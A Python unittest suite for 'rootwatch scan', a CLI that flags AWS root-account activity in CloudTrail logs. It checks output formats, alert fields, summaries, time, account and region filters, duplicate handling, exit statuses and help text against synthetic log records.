"""rootwatch scan as a user drives it: the output formats and the alert's fields, the default
format, the summary (where it goes, and its counts), -q, the filters (--since/--until, --account,
--region), -j, duplicate deliveries, exit statuses and usage errors, the help texts, standard
input, CSV formula defusing, and that nothing but root activity is ever reported.

Hand-made records give exact expectations; ctgen.py trails give realistic ones (checked against
its ground truth). ROOTWATCH_NOW fixes "now" for durations."""
import collections
import csv
import gzip
import io
import json
import os
import pty
import re
import shutil
import subprocess
import tempfile
import unittest

import rwtest

SLOW = 5 if rwtest.SANITIZED else 1
TIMEOUT = 60 * SLOW
NOW = {"ROOTWATCH_NOW": "2026-11-21T00:00:00Z"}
CSV_HEADER = ["eventTime", "eventID", "account", "region", "eventSource", "eventName", "kind",
              "outcome", "mfa", "credential", "readOnly", "errorCode", "sensitive", "severity",
              "reasons", "sourceIPAddress", "userAgent", "rule", "file", "offset"]
ALERT_FIELDS = ["eventID", "eventTime", "account", "region", "eventSource", "eventName",
                "sourceIPAddress", "userAgent", "kind", "outcome", "mfa", "credential", "readOnly",
                "errorCode", "severity", "reasons", "rule", "event"]
A, B = "111122223333", "444455556666"
ANSI = re.compile(r"\x1b\[[0-9;]*m")


def console_login(event_id, ok=True, mfa=False, **kw):
    rec = rwtest.record(event_id, source="signin.amazonaws.com", name="ConsoleLogin",
                        eventType="AwsConsoleSignIn", requestParameters=None,
                        responseElements={"ConsoleLogin": "Success" if ok else "Failure"},
                        additionalEventData={"MFAUsed": "Yes" if mfa else "No", "MobileVersion": "No"},
                        userAgent="Mozilla/5.0 (X11; Linux x86_64)", **kw)
    del rec["userIdentity"]["accessKeyId"]
    if not ok:
        rec["errorMessage"] = "Failed authentication"
    return rec


def fixture_records():
    """Root activity of several kinds, accounts, regions and times, among ordinary records."""
    recs = [
        console_login("login-nomfa", account=A, time="2026-11-13T08:00:00Z"),
        rwtest.record("ordinary-1", who="user", account=A),
        console_login("login-failed", ok=False, account=A, time="2026-11-19T09:30:00Z"),
        rwtest.record("key-createuser", account=B, region="eu-west-1", time="2026-11-20T12:00:00Z"),
        rwtest.record("ordinary-2", who="role", account=B, region="eu-west-1"),
        rwtest.record("console-listbuckets", account=B, region="ap-southeast-2",
                      time="2026-11-20T23:30:00Z", source="s3.amazonaws.com", name="ListBuckets",
                      readOnly=True),
        rwtest.record("denied-stoplogging", account=A, region="eu-west-1", time="2026-11-20T18:00:00Z",
                      source="cloudtrail.amazonaws.com", name="StopLogging",
                      errorCode="AccessDenied", errorMessage="not authorized"),
        rwtest.record("recovery", account=B, time="2026-11-18T00:00:00Z", source="signin.amazonaws.com",
                      name="PasswordRecoveryCompleted", eventType="AwsConsoleSignIn",
                      responseElements={"PasswordRecoveryCompleted": "Success"}),
    ]
    # the console session: temporary credentials, MFA used
    ui = recs[5]["userIdentity"]
    ui["accessKeyId"] = "ASIAEXAMPLESESSION01"
    ui["sessionContext"] = {"attributes": {"creationDate": "2026-11-20T23:00:00Z", "mfaAuthenticated": "true"}}
    return recs


ROOT_IDS = ["login-nomfa", "login-failed", "key-createuser", "console-listbuckets",
            "denied-stoplogging", "recovery"]


def parse_size(text):
    """'4.0 MB' -> (4e6, 5e4): the value and how far rounding may have moved it."""
    num, unit = text.split()
    scale = {"bytes": 1, "kB": 1e3, "MB": 1e6, "GB": 1e9}[unit]
    decimals = len(num.split(".")[1]) if "." in num else 0
    return float(num) * scale, 0.5 * 10 ** -decimals * scale


def parse_summary(text):
    """The summary lines, as numbers."""
    s = {}
    for line in text.splitlines():
        m = re.match(r"summary: (\d+) files? read \((\d+) CloudTrail(?: \((\d+) with problems\))?"
                     r"(?:, (\d+) digest skipped)?(?:, (\d+) not CloudTrail skipped)?(?:, (\d+) empty)?"
                     r"(?:, (\d+) links to folders or special files skipped)?, (\d+) failed\)$", line)
        if m:
            s.update(files=int(m[1]), trail=int(m[2]), trail_problems=int(m[3] or 0),
                     digest=int(m[4] or 0), other=int(m[5] or 0), empty=int(m[6] or 0),
                     skipped=int(m[7] or 0), failed=int(m[8]))
        m = re.match(r"summary: (\d+) records \((\d+) parsed in full\), (.+) read, (.+) decompressed, in [\d.]+ s$", line)
        if m:
            s.update(records=int(m[1]), parsed=int(m[2]), read=parse_size(m[3]), decompressed=parse_size(m[4]))
        m = re.match(r"summary: (\d+) alerts?(?:, (\d+) duplicate deliver(?:y|ies) ignored)?"
                     r"(?:, (\d+) outside the filters)?$", line)
        if m:
            s.update(alerts=int(m[1]), duplicates=int(m[2] or 0), filtered=int(m[3] or 0))
        m = re.match(r"summary: by account:((?: \d+ \d+)+)$", line)
        if m:
            v = m[1].split()
            s["by_account"] = {v[i]: int(v[i + 1]) for i in range(0, len(v), 2)}
        m = re.match(r"summary: by kind: console_login (\d+), signin_other (\d+), api_call (\d+)$", line)
        if m:
            s["by_kind"] = {"console_login": int(m[1]), "signin_other": int(m[2]), "api_call": int(m[3])}
        m = re.match(r"summary: by severity: critical (\d+), high (\d+), medium (\d+), low (\d+)$", line)
        if m:
            s["by_severity"] = {"critical": int(m[1]), "high": int(m[2]), "medium": int(m[3]), "low": int(m[4])}
        m = re.match(r"summary: (\d+) problems? reported above$", line)
        if m:
            s["problems"] = int(m[1])
    return s


def run_on_terminal(args, env=None):
    """Runs rootwatch with its standard output on a pseudo-terminal; returns (status, output)."""
    try:
        master, slave = pty.openpty()
    except OSError as e:  # a container or chroot without /dev/pts
        raise unittest.SkipTest("no pseudo-terminal can be opened (%s): terminal output is not tested" % e)
    e = dict(os.environ)
    e.pop("NO_COLOR", None)
    e.update(env or {})
    p = subprocess.Popen([rwtest.ROOTWATCH] + list(args), stdout=slave, stderr=subprocess.PIPE,
                         stdin=subprocess.DEVNULL, env=e)
    os.close(slave)
    chunks = []
    while True:
        try:
            b = os.read(master, 65536)
        except OSError:  # EIO: the other end is closed
            break
        if not b:
            break
        chunks.append(b)
    os.close(master)
    err = p.stderr.read()
    p.stderr.close()
    rc = p.wait(timeout=TIMEOUT)
    text = b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")
    for mark in rwtest.SANITIZER_MARKS:
        assert mark not in err.decode("utf-8", "replace"), err
    return rc, text


class Cli(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="rw-cli-")
        recs = fixture_records()
        cls.trail = os.path.join(cls.dir, "trail.json")
        with open(cls.trail, "wb") as f:
            f.write(rwtest.trail_bytes(recs[:4]))
        cls.trail_gz = os.path.join(cls.dir, "trail2.json.gz")
        with open(cls.trail_gz, "wb") as f:
            f.write(gzip.compress(rwtest.trail_bytes(recs[4:])))
        cls.records = {r["eventID"]: r for r in recs}
        # a realistic trail: several accounts and regions, digests every 25 files, duplicates
        cls.corpus = rwtest.ctgen(4, 21, root_per_mb=4, records_per_file=60)
        cls.truth = rwtest.truth(cls.corpus)
        with open(os.path.join(cls.corpus, "manifest.json")) as f:
            cls.manifest = json.load(f)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.dir, ignore_errors=True)

    def scan(self, *args, rc=1, env=None, stdin=None):
        p = rwtest.run(["scan", *args], env=env, stdin=stdin, timeout=TIMEOUT)
        self.assertEqual(p.returncode, rc, p.stderr_text[-3000:])
        return p

    def fixture_alerts(self, *args, rc=1, env=None):
        p = self.scan("-f", "ndjson", *args, self.trail, self.trail_gz, rc=rc, env=env)
        return rwtest.ndjson(p.stdout_text), p

    # ---- formats ------------------------------------------------------------------------------

    def test_ndjson(self):
        p = self.scan("-f", "ndjson", self.trail, self.trail_gz)
        lines = p.stdout_text.splitlines()
        self.assertEqual(len(lines), len(ROOT_IDS))
        alerts = [json.loads(line) for line in lines]
        self.assertTrue(all(isinstance(a, dict) for a in alerts))
        self.assertEqual([a["eventID"] for a in alerts], ROOT_IDS, "in input order")

    def test_json(self):
        ref = rwtest.ndjson(self.scan("-f", "ndjson", self.trail, self.trail_gz).stdout_text)
        p = self.scan("-f", "json", self.trail, self.trail_gz)
        alerts = json.loads(p.stdout_text)
        self.assertIsInstance(alerts, list)
        self.assertEqual(alerts, ref)
        empty = self.scan("-f", "json", "-", rc=0,
                          stdin=rwtest.trail_bytes([rwtest.record("u", who="user")])).stdout_text
        self.assertEqual(json.loads(empty), [])

    def test_csv(self):
        ref = rwtest.ndjson(self.scan("-f", "ndjson", self.trail, self.trail_gz).stdout_text)
        p = self.scan("-f", "csv", self.trail, self.trail_gz)
        rows = list(csv.reader(io.StringIO(p.stdout_text, newline="")))
        self.assertEqual(rows[0], CSV_HEADER)
        self.assertEqual(len(rows), 1 + len(ref))
        for row, a in zip(rows[1:], ref):
            self.assertEqual(len(row), len(CSV_HEADER))
            r = dict(zip(CSV_HEADER, row))
            for k in ("eventTime", "eventID", "account", "region", "eventSource", "eventName", "kind",
                      "severity", "sourceIPAddress", "userAgent", "rule"):
                self.assertEqual(r[k], a[k] or "", k)
            self.assertEqual(r["outcome"], a["outcome"] or "")
            self.assertEqual(r["credential"], a["credential"] or "")
            self.assertEqual(r["errorCode"], a["errorCode"] or "")
            self.assertEqual(r["mfa"], {True: "true", False: "false", None: ""}[a["mfa"]])
            self.assertEqual(r["readOnly"], {True: "true", False: "false", None: ""}[a["readOnly"]])
            self.assertEqual(r["reasons"], "; ".join(a["reasons"]))
            self.assertEqual(r["file"], a["source"]["file"])
            self.assertEqual(int(r["offset"]), a["source"]["offset"])

    def check_table(self, text, n):
        lines = [ANSI.sub("", x) for x in text.splitlines()]
        self.assertEqual(lines[0].split(), ["TIME", "SEVERITY", "ACCOUNT", "REGION", "EVENT", "KIND",
                                            "MFA", "SOURCE", "IP", "REASONS"])
        self.assertEqual(len(lines), 1 + n)
        return lines[1:]

    def test_table(self):
        ref = rwtest.ndjson(self.scan("-f", "ndjson", self.trail, self.trail_gz).stdout_text)
        p = self.scan("-f", "table", self.trail, self.trail_gz)
        rows = self.check_table(p.stdout_text, len(ref))
        self.assertNotIn("\x1b[", p.stdout_text, "no colour when not a terminal")
        for row, a in zip(rows, ref):
            cols = row.split()
            self.assertEqual(cols[0], a["eventTime"])
            self.assertEqual(cols[1], a["severity"])
            self.assertEqual(cols[2], a["account"])
            self.assertEqual(cols[3], a["region"])
            self.assertEqual(cols[4], "%s:%s" % (a["eventSource"].split(".")[0], a["eventName"]))
            self.assertEqual(cols[5], a["kind"])
        p = self.scan("-f", "table", "-", rc=0, stdin=rwtest.trail_bytes([rwtest.record("u", who="user")]))
        self.assertEqual(p.stdout_text, "No root account activity detected.\n")

    def test_default_format(self):
        # not a terminal: NDJSON, for programs
        p = self.scan(self.trail, self.trail_gz)
        self.assertEqual([a["eventID"] for a in rwtest.ndjson(p.stdout_text)], ROOT_IDS)
        # a terminal: a table, in colour unless NO_COLOR or --color never
        rc, text = run_on_terminal(["scan", self.trail, self.trail_gz])
        self.assertEqual(rc, 1)
        self.check_table(text, len(ROOT_IDS))
        self.assertIn("\x1b[1;31mcritical", text)
        for args, env in [(["--color", "never"], None), ([], {"NO_COLOR": "1"})]:
            rc, text = run_on_terminal(["scan", *args, self.trail, self.trail_gz], env)
            self.assertEqual(rc, 1)
            self.check_table(text, len(ROOT_IDS))
            self.assertNotIn("\x1b[", text)
        p = self.scan("-f", "table", "--color", "always", self.trail, self.trail_gz)
        self.assertIn("\x1b[", p.stdout_text)

    # ---- the alert ----------------------------------------------------------------------------

    def test_alert_fields(self):
        alerts, _ = self.fixture_alerts()
        by_id = {a["eventID"]: a for a in alerts}
        for a in alerts:
            with self.subTest(eventID=a["eventID"]):
                for k in ALERT_FIELDS:
                    self.assertIn(k, a)
                rec = self.records[a["eventID"]]
                self.assertEqual(a["event"], rec, "the whole record")
                self.assertEqual(a["eventTime"], rec["eventTime"])
                self.assertEqual(a["account"], rec["recipientAccountId"])
                self.assertEqual(a["region"], rec["awsRegion"])
                self.assertEqual(a["eventSource"], rec["eventSource"])
                self.assertEqual(a["eventName"], rec["eventName"])
                self.assertEqual(a["sourceIPAddress"], rec["sourceIPAddress"])
                self.assertEqual(a["userAgent"], rec["userAgent"])
                self.assertEqual(a["errorCode"], rec.get("errorCode"))
                # each root event fires exactly one built-in rule, the one for its kind
                rule = {"console_login": "root-console-sign-in", "signin_other": "root-sign-in-event",
                        "api_call": "root-api-call"}[a["kind"]]
                self.assertEqual(a["rule"], rule)
                self.assertEqual(a["rules"], [rule])
                self.assertIn(a["severity"], ("low", "medium", "high", "critical"))
                self.assertIsInstance(a["reasons"], list)
                self.assertTrue(a["reasons"] and all(isinstance(x, str) and x for x in a["reasons"]))
        expect = {  # eventID: kind, outcome, mfa, credential, readOnly, severity
            "login-nomfa": ("console_login", "success", False, None, False, "critical"),
            "login-failed": ("console_login", "failure", False, None, False, "medium"),
            "key-createuser": ("api_call", "success", False, "access_key", False, "critical"),
            "console-listbuckets": ("api_call", "success", True, "console_session", True, "medium"),
            "denied-stoplogging": ("api_call", "failure", False, "access_key", False, "critical"),
            "recovery": ("signin_other", "success", None, None, False, "critical"),
        }
        for eid, (kind, outcome, mfa, cred, ro, sev) in expect.items():
            with self.subTest(eventID=eid):
                a = by_id[eid]
                self.assertEqual((a["kind"], a["outcome"], a["mfa"], a["credential"], a["readOnly"],
                                  a["severity"]), (kind, outcome, mfa, cred, ro, sev))
        self.assertEqual(by_id["denied-stoplogging"]["errorCode"], "AccessDenied")
        self.assertIn("AKIAIOSFODNN7EXAMPLE", " ".join(by_id["key-createuser"]["reasons"]))

    # ---- the summary --------------------------------------------------------------------------

    def corpus_facts(self):
        """Counts of the ctgen trail, made independently of rootwatch."""
        files = trail_files = digests = 0
        size = dsize = 0
        occurrences = collections.Counter()
        for root, dirs, names in os.walk(os.path.join(self.corpus, "AWSLogs")):
            for n in names:
                path = os.path.join(root, n)
                files += 1
                size += os.path.getsize(path)
                with gzip.open(path) as f:
                    body = f.read()
                dsize += len(body)
                if "CloudTrail-Digest" in root:
                    digests += 1
                    continue
                trail_files += 1
                for r in json.loads(body)["Records"]:
                    if r["eventID"] in self.truth:
                        occurrences[r["eventID"]] += 1
        return dict(files=files, trail=trail_files, digest=digests, size=size, dsize=dsize,
                    occurrences=occurrences)

    def test_summary_counts(self):
        facts = self.corpus_facts()
        self.assertGreater(facts["digest"], 0)
        other = os.path.join(self.dir, "other")
        os.makedirs(other, exist_ok=True)
        for name, data in [("settings.json", b'{"theme": "dark"}'), ("notes.txt", b"notes\n")]:
            with open(os.path.join(other, name), "wb") as f:
                f.write(data)
        p = self.scan("-f", "ndjson", os.path.join(self.corpus, "AWSLogs"), other)
        alerts = rwtest.ndjson(p.stdout_text)
        s = parse_summary(p.stderr_text)
        self.assertEqual(s["files"], facts["files"] + 2)
        self.assertEqual(s["trail"], facts["trail"])
        self.assertEqual(s["digest"], facts["digest"])
        self.assertEqual(s["other"], 2)
        self.assertEqual(s["failed"], 0)
        self.assertEqual(s["records"], self.manifest["records"])
        other_bytes = 17 + 6  # settings.json and notes.txt
        for key, exact in (("read", facts["size"]), ("decompressed", facts["dsize"])):
            value, rounding = s[key]
            self.assertAlmostEqual(value, exact + other_bytes, delta=rounding * 1.001, msg=key)
        self.assertEqual(s["alerts"], len(self.truth))
        self.assertEqual(len(alerts), len(self.truth))
        self.assertEqual(s["duplicates"], sum(facts["occurrences"].values()) - len(self.truth))
        self.assertGreater(s["duplicates"], 0, "the trail has duplicate deliveries")
        self.assertEqual(s["by_account"], dict(collections.Counter(t["account"] for t in self.truth.values())))
        kinds = collections.Counter(t["kind"] for t in self.truth.values())
        self.assertEqual(s["by_kind"], {k: kinds.get(k, 0) for k in ("console_login", "signin_other", "api_call")})
        sev = collections.Counter(a["severity"] for a in alerts)
        self.assertEqual(s["by_severity"], {k: sev.get(k, 0) for k in ("critical", "high", "medium", "low")})
        self.assertNotIn("problems", s)
        # a small input: sizes in bytes, exact
        small = rwtest.trail_bytes([rwtest.record("small")])
        self.assertLess(len(small), 1000)
        s = parse_summary(self.scan("-f", "ndjson", "-", stdin=small).stderr_text)
        self.assertEqual((s["read"], s["decompressed"]), ((len(small), 0.5), (len(small), 0.5)))

    def test_summary_goes_to_stderr_or_stdout(self):
        p = self.scan("-f", "ndjson", self.trail, self.trail_gz)
        self.assertIn("summary: 6 alerts", p.stderr_text)
        self.assertNotIn("summary:", p.stdout_text)
        p = self.scan("-f", "ndjson", "--summary", self.trail, self.trail_gz)
        self.assertNotIn("summary:", p.stderr_text)
        lines = p.stdout_text.splitlines()
        n = len(ROOT_IDS)
        self.assertEqual([json.loads(x)["eventID"] for x in lines[:n]], ROOT_IDS)
        self.assertTrue(lines[n:] and all(x.startswith("summary: ") for x in lines[n:]),
                        "the summary comes after the alerts")
        s = parse_summary(p.stdout_text)
        self.assertEqual((s["files"], s["trail"], s["records"], s["alerts"]), (2, 2, 8, 6))
        self.assertEqual(s["by_account"], {A: 3, B: 3})
        self.assertEqual(s["by_kind"], {"console_login": 2, "signin_other": 1, "api_call": 3})
        self.assertEqual(s["by_severity"], {"critical": 4, "high": 0, "medium": 2, "low": 0})

    def test_quiet(self):
        p = self.scan("-q", "-f", "ndjson", self.trail, self.trail_gz)
        self.assertEqual(p.stderr_text, "")
        self.assertEqual([a["eventID"] for a in rwtest.ndjson(p.stdout_text)], ROOT_IDS)
        p = self.scan("--quiet", "-f", "ndjson", "--summary", self.trail, self.trail_gz)
        self.assertNotIn("summary:", p.stdout_text + p.stderr_text)
        # errors are never quietened
        p = self.scan("-q", self.trail, os.path.join(self.dir, "missing.json"), rc=2)
        self.assertTrue(rwtest.problems(p.stderr_text))

    # ---- filters ------------------------------------------------------------------------------

    def filtered(self, *args, rc=1):
        alerts, p = self.fixture_alerts(*args, rc=rc, env=NOW)
        return [a["eventID"] for a in alerts], parse_summary(p.stderr_text)

    def test_since_until_times(self):
        cases = [
            (["--since", "2026-11-20"], ["key-createuser", "console-listbuckets", "denied-stoplogging"]),
            (["--since", "2026-11-20T12:00:00Z"], ["key-createuser", "console-listbuckets", "denied-stoplogging"]),
            (["--since", "2026-11-20T12:00:01Z"], ["console-listbuckets", "denied-stoplogging"]),
            (["--until", "2026-11-19T09:30:00Z"], ["login-nomfa", "recovery"]),  # until is exclusive
            (["--since", "2026-11-18", "--until", "2026-11-20T12:00:00Z"], ["login-failed", "recovery"]),
            (["--since", "2026-11-20T13:00:00+01:00"], ["key-createuser", "console-listbuckets",
                                                         "denied-stoplogging"]),
            (["--since", "2027-01-01"], []),
        ]
        for args, expect in cases:
            with self.subTest(args=args):
                ids, s = self.filtered(*args, rc=1 if expect else 0)
                self.assertEqual(ids, expect)
                self.assertEqual(s["filtered"], len(ROOT_IDS) - len(expect), "counted as outside the filters")

    def test_since_until_durations(self):
        # now is 2026-11-21T00:00:00Z
        cases = [
            (["--since", "30m"], ["console-listbuckets"]),  # 23:30 is included
            (["--since", "12h"], ["key-createuser", "console-listbuckets", "denied-stoplogging"]),
            (["--since", "1d"], ["key-createuser", "console-listbuckets", "denied-stoplogging"]),
            (["--since", "7d"], ["login-failed", "key-createuser", "console-listbuckets",
                                 "denied-stoplogging", "recovery"]),
            (["--since", "8d"], ROOT_IDS),
            (["--since", "1w1d"], ROOT_IDS),
            (["--until", "1d"], ["login-nomfa", "login-failed", "recovery"]),
            (["--since", "2d", "--until", "6h"], ["login-failed", "key-createuser"]),  # until 18:00
            (["--since", "90s"], []),
        ]
        for args, expect in cases:
            with self.subTest(args=args):
                ids, s = self.filtered(*args, rc=1 if expect else 0)
                self.assertEqual(ids, expect)

    def test_account_and_region(self):
        cases = [
            (["--account", A], ["login-nomfa", "login-failed", "denied-stoplogging"]),
            (["--account", B], ["key-createuser", "console-listbuckets", "recovery"]),
            (["--account", "%s,%s" % (A, B)], ROOT_IDS),
            (["--account", A, "--account", B], ROOT_IDS),
            (["--account", "999999999999"], []),
            (["--region", "eu-west-1"], ["key-createuser", "denied-stoplogging"]),
            (["--region", "eu-west-1,ap-southeast-2"], ["key-createuser", "console-listbuckets",
                                                        "denied-stoplogging"]),
            (["--region", "us-east-1", "--region", "ap-southeast-2"], ["login-nomfa", "login-failed",
                                                                      "console-listbuckets", "recovery"]),
            (["--account", B, "--region", "eu-west-1"], ["key-createuser"]),
            (["--account", A, "--since", "2026-11-19", "--region", "us-east-1"], ["login-failed"]),
        ]
        for args, expect in cases:
            with self.subTest(args=args):
                ids, s = self.filtered(*args, rc=1 if expect else 0)
                self.assertEqual(ids, expect)
                self.assertEqual(s["filtered"], len(ROOT_IDS) - len(expect))

    def test_filters_on_a_ctgen_trail(self):
        # duplicate deliveries outside the filters are counted once, as alerts are
        acct = self.manifest["accounts"][0]
        region = self.manifest["regions"][1]
        times = sorted(t["eventTime"] for t in self.truth.values())
        since = times[len(times) // 3]
        for args, keep in [(["--account", acct], lambda t: t["account"] == acct),
                           (["--region", region], lambda t: t["region"] == region),
                           (["--since", since], lambda t: t["eventTime"] >= since)]:
            with self.subTest(args=args):
                p = self.scan("-f", "ndjson", *args, os.path.join(self.corpus, "AWSLogs"))
                got = {a["eventID"] for a in rwtest.ndjson(p.stdout_text)}
                expect = {e for e, t in self.truth.items() if keep(t)}
                self.assertEqual(got, expect)
                self.assertEqual(parse_summary(p.stderr_text)["filtered"], len(self.truth) - len(expect))

    # ---- threads, duplicates ------------------------------------------------------------------

    def test_jobs_give_the_same_output(self):
        src = [os.path.join(self.corpus, "AWSLogs"), os.path.join(self.corpus, "eventbridge.ndjson"),
               self.trail, self.trail_gz]
        outs = {}
        for fmt in ("ndjson", "csv"):
            for jobs in ("1", "2", "5"):
                p = self.scan("-q", "-f", fmt, "-j", jobs, *src)
                outs[fmt, jobs] = p.stdout
            with self.subTest(format=fmt):
                self.assertEqual(outs[fmt, "1"], outs[fmt, "2"], "-j 1 and -j 2: same bytes, same order")
                self.assertEqual(outs[fmt, "1"], outs[fmt, "5"])
        ids = [a["eventID"] for a in rwtest.ndjson(outs["ndjson", "1"].decode())]
        self.assertEqual(len(ids), len(set(ids)))
        self.assertEqual(set(ids), set(self.truth) | set(ROOT_IDS))

    def test_duplicates_reported_once(self):
        copy = os.path.join(self.dir, "copy-of-trail.json")
        shutil.copy(self.trail, copy)
        ndjson_copy = os.path.join(self.dir, "copy.ndjson")
        with open(ndjson_copy, "w") as f:
            for r in fixture_records():
                f.write(json.dumps(r) + "\n")
        p = self.scan("-f", "ndjson", self.trail, copy, self.trail_gz, ndjson_copy, self.trail)
        ids = [a["eventID"] for a in rwtest.ndjson(p.stdout_text)]
        self.assertEqual(ids, ROOT_IDS, "each event once, where it was first seen")
        s = parse_summary(p.stderr_text)
        self.assertEqual(s["alerts"], len(ROOT_IDS))
        self.assertEqual(s["duplicates"], 3 + len(ROOT_IDS) + 3)
        self.assertEqual(s["by_account"], {A: 3, B: 3})

    # ---- exit statuses and usage --------------------------------------------------------------

    def test_exit_status_0_without_root_activity(self):
        corpus = rwtest.ctgen(2, 22, root_per_mb=0, traps_per_mb=5)
        self.assertEqual(len(rwtest.truth(corpus)), 0)
        self.assertGreater(len(rwtest.traps(corpus)), 0)
        for src in (os.path.join(corpus, "AWSLogs"), corpus):
            p = self.scan("-f", "ndjson", src, rc=0)
            self.assertEqual(p.stdout_text, "", "nothing that is not root is reported")
            self.assertIn("summary: 0 alerts", p.stderr_text)
            self.assertEqual(rwtest.problems(p.stderr_text), [])

    def test_exit_status_1_with_root_activity(self):
        p = self.scan("-f", "ndjson", os.path.join(self.corpus, "AWSLogs"), rc=1)
        ok, details = rwtest.score(self.corpus, rwtest.ndjson(p.stdout_text))
        self.assertTrue(ok, details)

    def test_usage_errors(self):
        cases = [
            (["scan", "--bogus", self.trail], "--bogus"),
            (["scan", "-Z", self.trail], "-Z"),
            (["scan", "--since", "yesterday", self.trail], "yesterday"),
            (["scan", "--until", "2026-13-01", self.trail], "2026-13-01"),
            (["scan", "--since", "2026-11-20", "--until", "2026-11-19", self.trail], "--until"),
            (["scan"], "SOURCE"),
            (["scan", "-q"], "SOURCE"),
            (["scan", "-j", "0", self.trail], "'0'"),
            (["scan", "-j", "two", self.trail], "'two'"),
            (["scan", "-j", "5000", self.trail], "'5000'"),
            (["scan", "-f", "xml", self.trail], "xml"),
            (["scan", "--format", "", self.trail], "format"),
            (["scan", "--color", "sometimes", self.trail], "sometimes"),
            (["scan", "--max-record-size", "lots", self.trail], "lots"),
            (["scan", self.trail, "-f"], "-f"),
            (["scan", "--quiet=1", self.trail], "--quiet"),
        ]
        for args, needle in cases:
            with self.subTest(args=args[1:]):
                p = rwtest.run(args, timeout=TIMEOUT)
                self.assertEqual(p.returncode, 2, p.stderr_text)
                self.assertEqual(p.stdout_text, "", "nothing is scanned")
                self.assertIn(needle, p.stderr_text)
                self.assertIn("rootwatch: error:", p.stderr_text)
                self.assertIn("rootwatch scan --help", p.stderr_text)

    def test_help(self):
        p = rwtest.run(["--help"], timeout=TIMEOUT)
        self.assertEqual(p.returncode, 0)
        self.assertIn("usage: rootwatch COMMAND", p.stdout_text)
        self.assertRegex(p.stdout_text, r"\n  scan +\S")
        p = rwtest.run(["scan", "--help"], timeout=TIMEOUT)
        self.assertEqual(p.returncode, 0)
        self.assertTrue(p.stdout_text.startswith("usage: rootwatch scan [options] SOURCE..."))
        for opt in ("--format", "--since", "--until", "--account", "--region", "--jobs", "--summary",
                    "--quiet", "--verbose", "--color", "--max-record-size", "--help", "Exit status"):
            self.assertIn(opt, p.stdout_text)
        self.assertEqual(p.stderr_text, "")
        self.assertEqual(rwtest.run(["scan", "-h"], timeout=TIMEOUT).stdout_text, p.stdout_text)
        p = rwtest.run(["--version"], timeout=TIMEOUT)
        self.assertEqual(p.returncode, 0)
        self.assertRegex(p.stdout_text, r"^rootwatch \d+\.\d+\.\d+")

    def test_unknown_command(self):
        p = rwtest.run(["frobnicate", self.trail], timeout=TIMEOUT)
        self.assertEqual(p.returncode, 2)
        self.assertIn("unknown command 'frobnicate'", p.stderr_text)
        self.assertIn("scan", p.stderr_text, "the commands are listed")
        self.assertEqual(p.stdout_text, "")
        p = rwtest.run([], timeout=TIMEOUT)
        self.assertEqual(p.returncode, 2)
        self.assertIn("usage:", p.stderr_text)

    def test_folder_without_cloudtrail(self):
        folder = os.path.join(self.dir, "nothing-here")
        os.makedirs(os.path.join(folder, "sub"), exist_ok=True)
        for name, data in [("package.json", b'{"name": "x", "version": "1.0.0"}'),
                           ("sub/README.md", b"# readme\n"), ("sub/data.ndjson", b'{"a":1}\n{"a":2}\n')]:
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
        p = self.scan(folder, rc=2)
        self.assertIn("no CloudTrail data found", p.stderr_text)
        self.assertEqual(p.stdout_text, "")
        self.assertEqual(parse_summary(p.stderr_text)["other"], 3)
        empty = os.path.join(self.dir, "empty-folder")
        os.makedirs(empty, exist_ok=True)
        p = self.scan(empty, rc=2)
        self.assertIn("no CloudTrail data found", p.stderr_text)

    def test_summary_categories_add_up(self):
        # issue 15, defect 9: "2 files read (1 CloudTrail, 2 failed)" counted a file twice. Each
        # input is now in exactly one category, and the categories add up to the files.
        folder = os.path.join(self.dir, "one-of-each")
        shutil.rmtree(folder, ignore_errors=True)
        os.makedirs(os.path.join(folder, "sub"))
        files = {"clean.json": rwtest.trail_bytes([rwtest.record("sum-root")]),
                 "problems.json": rwtest.trail_bytes([rwtest.record("sum-no-time", eventTime=None)]),
                 "cut.ndjson": (json.dumps(rwtest.record("sum-user", who="user")) + "\n" +
                                json.dumps(rwtest.record("sum-cut"))[:90]).encode(),
                 "digest.json": json.dumps({"digestStartTime": "x", "digestEndTime": "y",
                                            "digestS3Bucket": "b", "logFiles": []}).encode(),
                 "settings.json": b'{"name": "x"}',
                 "sub/.gitkeep": b"",
                 "broken.json.gz": b"\x1f\x8b" + b"\x00" * 40}
        for name, data in files.items():
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
        os.mkfifo(os.path.join(folder, "sub", "pipe"))
        os.symlink(self.dir, os.path.join(folder, "link-to-folder"))
        missing = os.path.join(self.dir, "no-such-file.json")
        p = self.scan("-f", "ndjson", folder, missing, rc=2)
        s = parse_summary(p.stderr_text)
        self.assertEqual(dict(files=s["files"], trail=s["trail"], trail_problems=s["trail_problems"],
                              digest=s["digest"], other=s["other"], empty=s["empty"],
                              skipped=s["skipped"], failed=s["failed"]),
                         dict(files=10, trail=3, trail_problems=2, digest=1, other=1, empty=1,
                              skipped=2, failed=2), p.stderr_text)
        self.assertEqual(s["trail"] + s["digest"] + s["other"] + s["empty"] + s["skipped"] + s["failed"],
                         s["files"])
        # named: an empty file and a file that is not CloudTrail are reported, and still counted
        # once, as what they are
        empty, other = os.path.join(folder, "sub", ".gitkeep"), os.path.join(folder, "settings.json")
        p = self.scan(self.trail, empty, other, rc=2)
        s = parse_summary(p.stderr_text)
        self.assertEqual((s["files"], s["trail"], s["empty"], s["other"], s["failed"]), (3, 1, 1, 1, 0),
                         p.stderr_text)

    def test_fifo_and_link_to_a_folder_in_a_folder(self):
        # issue 15, defect 9: a named pipe or a symbolic link to a folder met in a folder was
        # skipped without a word, even with -v; now -v names it, and the summary counts it
        folder = os.path.join(self.dir, "odd-entries")
        shutil.rmtree(folder, ignore_errors=True)
        os.makedirs(folder)
        shutil.copy(self.trail, os.path.join(folder, "trail.json"))
        fifo, link = os.path.join(folder, "a-pipe"), os.path.join(folder, "b-link")
        os.mkfifo(fifo)
        os.symlink(self.dir, link)
        p = self.scan("-v", "-f", "ndjson", folder)
        self.assertIn("rootwatch: info: %s: skipped: a named pipe (FIFO)" % fifo, p.stderr_text)
        self.assertIn("rootwatch: info: %s: skipped: a symbolic link to a folder (not followed)" % link,
                      p.stderr_text)
        s = parse_summary(p.stderr_text)
        self.assertEqual((s["files"], s["trail"], s["skipped"], s["failed"]), (3, 1, 2, 0), p.stderr_text)
